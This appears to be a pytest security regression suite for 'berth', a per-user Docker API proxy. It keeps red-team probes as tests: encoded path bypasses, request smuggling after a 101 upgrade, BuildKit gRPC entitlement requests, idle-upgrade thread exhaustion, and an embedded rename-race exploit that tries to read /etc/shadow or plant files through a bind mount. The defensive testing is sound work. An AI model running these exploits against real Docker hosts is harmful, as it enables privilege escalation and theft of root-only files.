"""A user with a shell against BuildKit pass-through and percent-decoded
paths (the red team's probes, kept as tests): a rename race that would
have had dockerd copy through a bind as root, query spellings Go reads
another way, idle upgrades holding the host's relay threads, entitlements
asked over gRPC, smuggling after a 101, encoded create and exec bodies."""

import asyncio
import json
import os
import pwd
import socket
import subprocess
import sys
import threading
import time

import grpc_h2c
import netprobe
import pytest
from conftest import DEBIAN_CLI
from grpc_h2c import field

from berth.proxy import handler as proxy
from berth.proxy import policy

CTX = policy.Context("10.213.7.128/25")


def raw(sock_path, method, target, body=b"", headers=(), timeout=30, extra=b"", until=None):
    """One request on a connection of its own: (status, headers, body). `until`: bytes after which
    the rest of the answer is not waited for."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(sock_path)
    lines = [f"{method} {target} HTTP/1.1", "Host: docker", "Connection: close"]
    if body or method in ("POST", "PUT"):
        lines.append(f"Content-Length: {len(body)}")
        lines.append("Content-Type: application/json")
    lines += [f"{k}: {v}" for k, v in headers]
    s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body + extra)
    data = b""
    try:
        while chunk := s.recv(65536):
            data += chunk
            if until is not None and until in data:
                break
    except TimeoutError:
        data += b"<<TIMEOUT>>"
    s.close()
    head, _, rest = data.partition(b"\r\n\r\n")
    first = head.split(b"\r\n")[0].decode("latin-1")
    status = int(first.split()[1]) if first.startswith("HTTP/") else 0
    hd = {}
    for line in head.decode("latin-1").split("\r\n")[1:]:
        k, _, v = line.partition(":")
        hd[k.strip().lower()] = v.strip()
    if hd.get("transfer-encoding") == "chunked":
        out, buf = b"", rest
        while buf:
            size, _, buf = buf.partition(b"\r\n")
            try:
                n = int(size or b"0", 16)
            except ValueError:
                break
            if n == 0:
                break
            out, buf = out + buf[:n], buf[n + 2:]
        rest = out
    return status, hd, rest


def _msg(body):
    try:
        return str(json.loads(body).get("message"))[:150]
    except (ValueError, AttributeError):
        return body[:150]


def engine_socket(harness, user):
    return f"{harness.root}/run/{user}/d/docker.sock"


@pytest.fixture(scope="module")
def env(harness):
    a = harness.add_user()
    harness.berth("up", a)
    img = harness.import_busybox(a)
    def d(*args, check=True):
        return harness.docker(a, *args, check=check, cli=DEBIAN_CLI)
    yield dict(a=a, img=img, sock=harness.sock(a), engine=engine_socket(harness, a), d=d,
               home=pwd.getpwnam(a).pw_dir, uid=pwd.getpwnam(a).pw_uid)
    harness.berth("down", a, check=False)


# ---- 2. paths decoded once -------------------------------------------------------------------

TARGETS = [
    ("GET", "/v1.41/containers/json"),
    ("GET", "/%76%31.41/containers/json"),
    ("GET", "/v1.41/containers%2Fjson"),
    ("GET", "/v1.41/%2e%2e/containers/json"),
    ("GET", "/v1.41/containers/%2e%2e/json"),
    ("GET", "/v1.41/containers/x%252F..%252F/json"),
    ("GET", "/v1.41/containers/json%3Fall=1"),
    ("GET", "/v1.41/containers/json;x"),
    ("GET", "/v1.41/containers/x%00/json"),
    ("GET", "/v1.41/containers/%C0%AE%C0%AE/json"),
    ("GET", "/v1.41/CONTAINERS/json"),
    ("GET", "/v1.41/containers/JSON"),
    ("GET", "/v1.41/containers/json/"),
    ("GET", "/v1.41//containers/json"),
    ("GET", "/v1.41/containers/json#frag"),
    ("GET", "/v1.41/containers/x%23/json"),
    ("GET", "/v1.41/containers/x%20y/json"),
    ("GET", "/v1.41/containers/x%0d%0aFoo:%20bar/json"),
    ("GET", "/v1.41.0/containers/json"),
    ("GET", "/v01.41/containers/json"),
    ("GET", "/v1.41/_berth/refusals"),
    ("GET", "/_berth/refusals"),
    ("GET", "/%5fberth/refusals"),
    ("GET", "/v1.41/plugins"),
    ("GET", "/v1.41/plugins/x%2Fenable/json"),
    ("GET", "/v1.41/plugins/privileges"),
    ("GET", "/v1.41/%73warm"),
    ("GET", "/v1.41/swarm"),
    ("GET", "/v1.41/Swarm"),
    ("GET", "/v1.41/images/x%2F..%2F..%2Fswarm/json"),
    ("GET", "/v1.41/images/json%3F/json"),
    ("GET", "/v1.41/distribution/x%3F/json"),
    ("POST", "/v1.41/plugins/x/enable"),
    ("POST", "/v1.41/plugins/x%2Fy/enable"),
    ("POST", "/v1.41/%70lugins/x/enable"),
    ("POST", "/v1.41/%2567rpc"),
    ("GET", "/v1.41/%67rpc"),
    ("GET", "http:/v1.41/containers/json"),
    ("GET", "http://docker/v1.41/containers/json"),
    ("GET", "*"),
]


def test_routing_table_proxy_against_dockerd(env):
    """What the proxy answers a raw target, and what dockerd's own socket answers it."""
    rows = []
    for method, target in TARGETS:
        body = b"{}" if method == "POST" else b""
        try:
            p = raw(env["sock"], method, target, body)
        except OSError as e:
            p = (0, {}, str(e).encode())
        # dockerd's own answer, for routing only: nothing that changes state is sent to it
        if method == "POST" and ("enable" in target or "grpc" in target):
            e = (None, {}, b"(not sent)")
        else:
            e = raw(env["engine"], method, target, body)
        rows.append((method, target, p[0], _msg(p[2]), e[0], _msg(e[2])))
    for r in rows:
        print(f"{r[0]} {r[1]}\n   proxy  {r[2]} {r[3]}\n   dockerd {r[4]} {r[5]}")
    # a target the proxy passes must be one dockerd routes where the proxy thought
    passed_to_refused = [r for r in rows if r[2] not in (403, 400, 0) and ("plugins/x" in r[1] and r[0] == "POST")]
    assert not passed_to_refused


# ---- 1a. /build?version=2 read differently ---------------------------------------------------

VERSION_SPELLINGS = ["version=1;x&version=2", "version=%zz&version=2", "version=%&version=2", "version=2"]


@pytest.mark.parametrize("spelling", VERSION_SPELLINGS)
def test_policy_sees_buildkit_where_dockerd_does(env, spelling):
    """dockerd (Go's ParseQuery skips a pair with ';' or a bad escape) reads version=2; does berth?"""
    target = f"/v1.41/build?{spelling}&remote=client-session&session=nonesuch-attack&t=bk-attack"
    found = policy.canonical(target)
    berth_sees = policy.asks_buildkit("POST", *found)
    # BuildKit waits for a session that never comes (its progress stream may say so first); the classic
    # builder answers at once
    status, _, body = raw(env["engine"], "POST", target, b"", timeout=2, until=b"moby.buildkit.trace")
    print(f"{spelling}: berth asks_buildkit={berth_sees}; dockerd {status} {_msg(body)}")
    dockerd_buildkit = status == 0 or b"session" in body.lower() or b"<<TIMEOUT>>" in body \
        or b"moby.buildkit.trace" in body  # BuildKit's own progress stream
    assert berth_sees == dockerd_buildkit, (spelling, berth_sees, status, body[:200])


async def _stand_in(path, api_version, seen):
    async def serve(reader, writer):
        head = await reader.readuntil(b"\r\n\r\n")
        seen.append(head.split(b"\r\n")[0])
        if head.startswith((b"GET /version ", b"GET /info ")):
            body = json.dumps({"ApiVersion": api_version, "CgroupDriver": "cgroupfs"}).encode()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                         % (len(body), body))
        else:
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
        await writer.drain()
        writer.close()
    return await asyncio.start_unix_server(serve, path)


async def _through(tmp_path, request):
    seen = []
    upstream, listen = str(tmp_path / "dockerd.sock"), str(tmp_path / "user.sock")
    dockerd = await _stand_in(upstream, "1.43", seen)
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(listen)
    sock.listen()
    server = await proxy.serve_socket(proxy.Handler(upstream, CTX), sock)
    try:
        reader, writer = await asyncio.open_unix_connection(listen)
        writer.write(request)
        answer = await asyncio.wait_for(reader.read(-1), 10)
        writer.close()
    finally:
        server.close()
        dockerd.close()
    return answer, seen


@pytest.mark.parametrize("spelling", VERSION_SPELLINGS)
def test_buildkit_gate_on_api_1_43_with_version_spelled_for_go(tmp_path, spelling):
    request = (f"POST /v1.43/build?{spelling}&remote=client-session&session=x HTTP/1.1\r\nHost: docker\r\n"
               "Content-Length: 0\r\nConnection: close\r\n\r\n").encode()
    answer, seen = asyncio.run(_through(tmp_path, request))
    print(spelling, answer.split(b"\r\n")[0], seen)
    assert answer.startswith(b"HTTP/1.1 403"), (answer[:300], seen)


# ---- 2b. a name checked, the route spelled so that the id is not put in its place ------------------


def test_archive_target_rewritten_in_the_query_not_the_path(tmp_path):
    """_by_id replaces the first /containers/X/archive of the raw target: where
    the path is encoded, the one it replaces is in the query."""
    import collections

    from berth.proxy.handler import _by_id
    Head = collections.namedtuple("Head", "target")
    target = b"/v1.41/containers/plain%2Farchive?path=/d/s&z=/containers/q/archive"
    found = policy.canonical(target.decode())
    print(found)
    assert proxy.ARCHIVE.fullmatch(found[0])[1] == "plain"
    head, refusal = _by_id(Head(target), "f" * 64)
    print(head.target, refusal)
    # the path dockerd acts on names the id berth checked, or nothing goes on
    assert refusal is not None or policy.canonical(head.target.decode())[0] == "/containers/" + "f" * 64 + "/archive"


@pytest.mark.parametrize("bound", ["home", "etc"])
def test_archive_race_copies_through_a_bind_as_root(env, harness, bound):
    """The name berth checked is the name dockerd acts on: rename in between."""
    d, img, home, uid = env["d"], env["img"], env["home"], env["uid"]
    src = f"{home}/bk-src"
    os.makedirs(f"{src}/secret", exist_ok=True)
    os.chown(src, uid, -1)
    with open(f"{src}/secret/s", "w") as f:
        f.write("ROOT-ONLY\n")
    os.chmod(f"{src}/secret", 0o700)  # root's: the user reaches the directory, not this
    for c in ("rc-plain", "rc-bound", "rc-tmp"):
        d("rm", "-f", c, check=False)
    d("create", "--name", "rc-plain", img, "true")
    if bound == "etc":
        d("create", "--name", "rc-bound", "-v", "/etc:/d", img, "true")
        want, secret = "/d/shadow", b"root:"
    else:
        d("create", "--name", "rc-bound", "-v", f"{src}:/d", img, "true")
        want, secret = "/d/secret/s", b"ROOT-ONLY"
    # berth itself: a copy out of rc-bound is done as the user, who cannot read it
    status, _, body = raw(env["sock"], "GET", f"/v1.41/containers/rc-bound/archive?path={want}")
    print("direct via berth:", status, _msg(body) if status != 200 else body[:100])
    assert status != 200 or secret not in body
    stop = threading.Event()
    names = {"cur": "plain"}

    def racer():
        eng = env["sock"]
        while not stop.is_set():
            raw(eng, "POST", "/v1.41/containers/rc-plain/rename?name=rc-tmp")
            raw(eng, "POST", "/v1.41/containers/rc-bound/rename?name=rc-plain")
            names["cur"] = "bound"
            raw(eng, "POST", "/v1.41/containers/rc-plain/rename?name=rc-bound")
            raw(eng, "POST", "/v1.41/containers/rc-tmp/rename?name=rc-plain")
            names["cur"] = "plain"
    t = threading.Thread(target=racer, daemon=True)
    t.start()
    won, tries, outcomes = None, 0, {}
    deadline = time.time() + 20  # the race was won within 60 tries, well under this
    try:
        while time.time() < deadline and won is None and tries < 200:
            tries += 1
            status, _, body = raw(env["sock"], "GET",
                                  f"/v1.41/containers/rc-plain%2Farchive?path={want}&z=/containers/q/archive")
            key = (status, _msg(body) if status != 200 else "200")
            outcomes[key] = outcomes.get(key, 0) + 1
            if status == 200 and secret in body:
                won = tries
                print(f"won: {len(body)} bytes of tar holding {secret!r}")
    finally:
        stop.set()
        t.join()
    print("tries", tries, "won at", won, "outcomes", outcomes)
    for dirpath, _, files in os.walk(f"{harness.root}/log"):
        for f in files:
            for line in open(os.path.join(dirpath, f), errors="replace"):
                if any(w in line for w in ("Traceback", "Error", "failed", "exception")):
                    print("LOG", f, line.rstrip()[:300])
    assert won is None, f"dockerd copied a root-only file through a bind after {won} tries"


# ---- 1b. gRPC entitlements -------------------------------------------------------------------


def test_grpc_solve_asking_entitlements_is_refused(env):
    for ent in ("network.host", "security.insecure"):
        # SolveRequest: Ref=1, Frontend=6, FrontendAttrs=7 (map), Entitlements=9
        attrs = field(7, field(1, "force-network-mode") + field(2, "host"))
        msg = field(1, f"attack{ent}") + field(6, "dockerfile.v0") + attrs + field(9, ent)
        status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
        print(ent, status, trailers.get("grpc-message"), reply[:300])
        assert status != "0"
        assert "not allowed" in trailers.get("grpc-message", ""), trailers
    # no entitlement asked, frontend told host network
    msg = (field(1, "attack-fnm") + field(6, "dockerfile.v0")
           + field(7, field(1, "force-network-mode") + field(2, "host")))
    status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/Solve", msg)
    print("force-network-mode only", status, trailers.get("grpc-message"))
    # encoded spellings of /grpc reach the gate too
    for up in (b"POST /%67rpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
               b"POST /v1.41/grpc HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
               b"POST /grpc?x=1 HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"):
        status, reply, trailers = grpc_h2c.call(env["sock"], "/moby.buildkit.v1.Control/ListWorkers", b"", up)
        print(up.split(b"\r\n")[0], status, reply[:80] if status != "0" else "ok")


# ---- 1c. upgrades and smuggling ----------------------------------------------------------------


def test_grpc_without_upgrade_then_a_pipelined_privileged_create(env):
    """dockerd's /grpc switches protocols whatever the request says: what follows goes where?"""
    create = json.dumps({"Image": env["img"], "Cmd": ["true"], "HostConfig": {"Privileged": True}}).encode()
    second = (b"POST /v1.41/containers/create?name=smuggled HTTP/1.1\r\nHost: docker\r\n"
              b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(create), create))
    for first in (b"POST /grpc HTTP/1.1\r\nHost: docker\r\n\r\n",
                  b"POST /grpc HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\n\r\n",
                  b"POST /session HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
                  b"POST /session HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n"
                  b"X-Docker-Expose-Session-Uuid: smug\r\n\r\n",
                  b"POST /grpc HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(5)
        s.connect(env["sock"])
        s.sendall(first + second)
        data = b""
        try:
            while chunk := s.recv(65536):
                data += chunk
        except TimeoutError:
            pass
        s.close()
        print(first.split(b"\r\n")[0], first.count(b"\r\n"), "->", data[:300])
        r = env["d"]("inspect", "smuggled", check=False)
        print("  smuggled exists:", r.returncode == 0)
        if r.returncode == 0:
            env["d"]("rm", "-f", "smuggled", check=False)
        assert r.returncode != 0, first


def _proxyd_pid(harness):
    marker = f"{harness.root}/run".encode()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if any(b"proxy" in c for c in cmd) and any(marker in c for c in cmd):
            return int(pid)
    for pid in os.listdir("/proc"):  # proxyd finds its config elsewhere: the newest berth proxy process
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            env_ = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if b"berth" in cmd and b"proxy" in cmd and harness.root.encode() in env_:
            return int(pid)
    return None


def test_idle_upgrades_hold_the_hosts_relay_threads(env, harness):
    """Each spliced upgrade takes two relays; the first MAX_THREADS host-wide run in threads,
    and an idle session is never timed out: one user can hold them all."""
    pid = _proxyd_pid(harness)
    print("proxyd", pid)
    def threads():
        return len(os.listdir(f"/proc/{pid}/task")) if pid else -1
    before = threads()
    held = []
    for _ in range(6):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(10)
        s.connect(env["sock"])
        s.sendall(b"POST /grpc HTTP/1.1\r\nHost: docker\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(1)
        held.append(s)
    time.sleep(1)
    during = threads()
    for s in held:
        s.close()
    time.sleep(1)
    print("threads before", before, "with 6 idle upgrades", during, "after", threads())
    logs = []
    for dirpath, _, files in os.walk(f"{harness.root}/log"):
        for f in files:
            text = open(os.path.join(dirpath, f), errors="replace").read()
            if "Traceback" in text or "failed" in text:
                logs.append((f, [line for line in text.splitlines() if "Traceback" in line or "Error" in line
                                 or "failed" in line][:20]))
    print("log lines of note:", logs)
    from berth.proxy import splicerelay
    assert during - before < splicerelay.MAX_THREADS, "one user's idle upgrades hold every relay thread of the host"


RACE = r'''
# The red team's exploit, run by the user from their shell: rename containers round in one
# thread while another copies out of ("get") or into ("put") the one checked by name.
import io, os, socket, sys, tarfile, threading
sock, mode, path, proof = sys.argv[1:]

def req(method, target, body=b""):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(20)
    s.connect(sock)
    kind = "Content-Type: application/x-tar\r\n" if body else ""
    s.sendall(f"{method} {target} HTTP/1.1\r\nHost: d\r\nConnection: close\r\n{kind}"
              f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    s.close()
    return data

bio = io.BytesIO()
with tarfile.open(fileobj=bio, mode="w") as t:
    info = tarfile.TarInfo("planted")
    info.size = 7
    t.addfile(info, io.BytesIO(b"planted"))
tar = bio.getvalue()

stop = False
def racer():
    while not stop:
        for a, b in (("rc-plain", "rc-tmp"), ("rc-bound", "rc-plain"),
                     ("rc-plain", "rc-bound"), ("rc-tmp", "rc-plain")):
            req("POST", f"/v1.41/containers/{a}/rename?name={b}")
threading.Thread(target=racer, daemon=True).start()
target = f"/v1.41/containers/rc-plain%2Farchive?path={path}&z=/containers/q/archive"
for i in range(1, 250):
    if mode == "get":  # proof: bytes of the root-only file, in what came back
        data = req("GET", target)
        won = data.startswith(b"HTTP/1.1 200") and proof.encode() in data
    else:  # proof: the file planted where the user may not write
        req("PUT", target, tar)
        won = os.path.exists(proof)
    if won:
        print("WON", i)
        break
else:
    print("LOST")
stop = True
'''


def _race_as(harness, user, *args):
    """RACE run by `user` from their shell (Debian's python3: what the user has): its output."""
    script = f"{harness.root}/race.py"
    with open(script, "w") as f:
        f.write(RACE)
    os.chmod(script, 0o644)
    r = subprocess.run(["runuser", "-u", user, "--", "/usr/bin/python3", script, *args],
                       capture_output=True, text=True, timeout=240)
    print("as", user, ":", r.stdout, r.stderr[-500:])
    return r.stdout


def test_archive_race_as_the_user_from_their_shell(env, harness):
    d, img, a = env["d"], env["img"], env["a"]
    for c in ("rc-plain", "rc-bound", "rc-tmp"):
        d("rm", "-f", c, check=False)
    d("create", "--name", "rc-plain", img, "true")
    d("create", "--name", "rc-bound", "-v", "/etc:/d", img, "true")
    assert subprocess.run(["runuser", "-u", a, "--", "cat", "/etc/shadow"], capture_output=True).returncode != 0
    assert "WON" not in _race_as(harness, a, env["sock"], "get", "/d/shadow", "root:")




def test_archive_race_writes_where_the_user_cannot(env, harness):
    d, img, a, home, uid = env["d"], env["img"], env["a"], env["home"], env["uid"]
    src = f"{home}/bk-w"
    os.makedirs(f"{src}/rootdir", exist_ok=True)
    os.chown(src, uid, -1)
    os.chmod(f"{src}/rootdir", 0o755)  # root's: the user may not create files in it
    for c in ("rc-plain", "rc-bound", "rc-tmp"):
        d("rm", "-f", c, check=False)
    d("create", "--name", "rc-plain", img, "true")
    d("create", "--name", "rc-bound", "-v", f"{src}:/d", img, "true")
    assert subprocess.run(["runuser", "-u", a, "--", "touch", f"{src}/rootdir/x"], capture_output=True).returncode != 0
    planted = f"{src}/rootdir/planted"
    out = _race_as(harness, a, env["sock"], "put", "/d/rootdir", planted)
    st = os.stat(planted) if os.path.exists(planted) else None
    print("planted:", st and (st.st_uid, oct(st.st_mode)))
    assert "WON" not in out and st is None


@pytest.mark.parametrize("target", ["/%76%31.41/containers/create", "/v1.41/containers/cre%61te",
                                    "/v1.41/%63ontainers/create?name=enc", "/containers%2Fcreate",
                                    "/v1.41/containers/create/", "/V1.41/containers/create"])
def test_encoded_create_keeps_its_body_check(env, target):
    body = json.dumps({"Image": env["img"], "Cmd": ["true"], "HostConfig": {"Privileged": True}}).encode()
    status, _, out = raw(env["sock"], "POST", target, body)
    print(target, status, _msg(out))
    assert status in (403, 404, 400), (target, status, out)
    if status == 201:
        env["d"]("rm", "-f", json.loads(out)["Id"], check=False)


def test_encoded_exec_keeps_its_body_check(env):
    d = env["d"]
    d("rm", "-f", "ex-target", check=False)
    d("run", "-d", "--name", "ex-target", env["img"], "sleep", "300")
    body = json.dumps({"Cmd": ["id"], "Privileged": True}).encode()
    for target in ("/v1.41/containers/ex-target/ex%65c", "/v1.41/containers/ex%2Dtarget/exec"):
        status, _, out = raw(env["sock"], "POST", target, body)
        print(target, status, _msg(out))
        assert status == 403, (target, status, out)
    d("rm", "-f", "ex-target", check=False)


SOLVE_HTTP = """
import sys
import grpc_h2c
sock, ref, url = sys.argv[1:]
status, _, trailers = grpc_h2c.call(sock, "/moby.buildkit.v1.Control/Solve", grpc_h2c.solve_http(ref, url), timeout=120)
print(status, trailers.get("grpc-message"), flush=True)
"""


def _solve_http(sock, ref, url):
    """A gRPC Solve whose build is dockerd fetching `url`, through `sock`, in a process of its own: started."""
    return subprocess.Popen([sys.executable, "-c", SOLVE_HTTP, sock, ref, url], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, start_new_session=True,
                            env={**os.environ, "PYTHONPATH": os.path.dirname(grpc_h2c.__file__)})


def test_grpc_http_source_stays_out_of_other_users_blocks(env, harness):
    """A build asked over gRPC fetches from the user's own block, and never reaches another user's:
    dockerd's SYN into b's block stays unanswered, and a listener there takes no connection."""
    b = harness.add_user()
    harness.berth("up", b)
    own = json.loads(harness.berth("status", env["a"], "--json").stdout)["users"][0]["net_ip"]
    other = json.loads(harness.berth("status", b, "--json").stdout)["users"][0]
    listener = None
    env["d"]("rm", "-f", "web", check=False)
    env["d"]("run", "-d", "--name", "web", "--net=container:net", env["img"], "sh", "-c",
             f"echo page-of-{env['a']} > /www/index.html && exec httpd -f -p 8080 -h /www")
    try:
        for _ in range(50):  # httpd takes a moment to listen
            if _serves(own):
                break
            time.sleep(0.1)
        solve = _solve_http(env["sock"], "attack-http-own", f"http://{own}:8080/")
        answer = solve.communicate(timeout=120)[0]
        assert answer.split()[:1] == ["0"], answer  # the control: a fetch from the own block works
        listener = netprobe.Listener(f"bt{harness.tag}g", other["bridge"], other["block"])
        solve = _solve_http(env["sock"], "attack-http-other", f"http://{listener.address}:{listener.port}/")
        netprobe.assert_dropped(solve, listener.address, listener.port, listener)
    finally:
        if listener is not None:
            listener.close()
        env["d"]("rm", "-f", "web", check=False)
        harness.berth("down", b, check=False)


def _serves(ip):
    with socket.socket() as s:
        s.settimeout(1)
        return s.connect_ex((ip, 8080)) == 0


def test_start_target_rewritten_in_the_query_not_the_path():
    import collections
    Head = collections.namedtuple("Head", "target")
    target = b"/v1.41/containers/x%2Fstart?z=/containers/q/"
    assert proxy.policy.canonical(target.decode())[0] == "/containers/x/start"
    head, refusal = proxy._by_id(Head(target), "f" * 64)
    print(head.target, refusal)
    assert refusal is not None or policy.canonical(head.target.decode())[0] == "/containers/" + "f" * 64 + "/start"
